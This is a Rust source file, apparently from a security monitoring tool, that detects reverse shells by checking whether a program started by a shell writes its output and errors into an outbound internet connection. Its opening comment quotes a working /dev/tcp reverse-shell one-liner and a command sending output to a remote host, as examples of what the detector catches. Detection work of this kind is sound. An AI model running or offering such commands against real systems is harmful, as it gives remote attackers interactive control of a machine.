//! A program that answers into a connection which a shell opened for it, as in
//! `exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read l; do $l >&5 2>&5; done`: no shell
//! has the connection on its own streams, only what it runs has.
//!
//! Shells also send the output of one program somewhere, as `date > /dev/tcp/HOST/PORT`
//! does. Errors are not sent along then, and nobody asks who is there.

use sentinel_event::{Event, Severity, StdioKind};

use super::{ReverseShell, TECHNIQUES, direct, named, towards};
use crate::connections::Direction;
use crate::{Finding, intrusive, programs, words};

/// Judges the start of a program by where its output goes.
pub fn judge(detection: &mut ReverseShell, event: &Event) -> Option<Finding> {
    let process = &event.process;
    let output = &process.stdio[1];
    let peer = direct::internet_peer(output)?;
    let spoken = detection.connections.behind(process, output)?;
    let opener = &spoken.opener;
    if spoken.direction != Direction::Out || !programs::is_shell(&opener.exe) {
        return None;
    }
    let errors = &process.stdio[2];
    let all = errors.kind == StdioKind::Socket && errors.inode == output.inode;
    if !all && !intrusive::is_program(&process.exe) {
        return None;
    }
    // What is done with a reported shell is not reported once more.
    if direct::is_below_reported(process, peer)
        || detection.redirects.is_told(process, output)
        || detection.answers.note(opener.exec_id.0) > 0
    {
        return None;
    }
    Some(Finding {
        variant: "answers",
        subject: "".into(),
        severity: towards(peer, Severity::High),
        confidence: if all { 80 } else { 60 },
        summary: format!(
            "{} (pid {}, {}) has {}, and {} answers there{}",
            words::shown(words::program(&opener.exe)),
            opener.pid,
            words::user(opener),
            named(spoken),
            words::shown(words::program(&process.exe)),
            words::origin(process)
        ),
        reason: match all {
            true => {
                "a shell opened a connection and started a program whose output and errors both go \
                 there, as they do where somebody on the other side types"
            }
            false => {
                "a shell opened a connection and started a program that intruders begin with, whose \
                 output goes there"
            }
        }
        .to_owned(),
        techniques: TECHNIQUES.into(),
        earlier: vec![spoken.evidence(event.time_ns)],
        shows: format!("exec of {}", words::shown(&process.command_line())),
    })
}
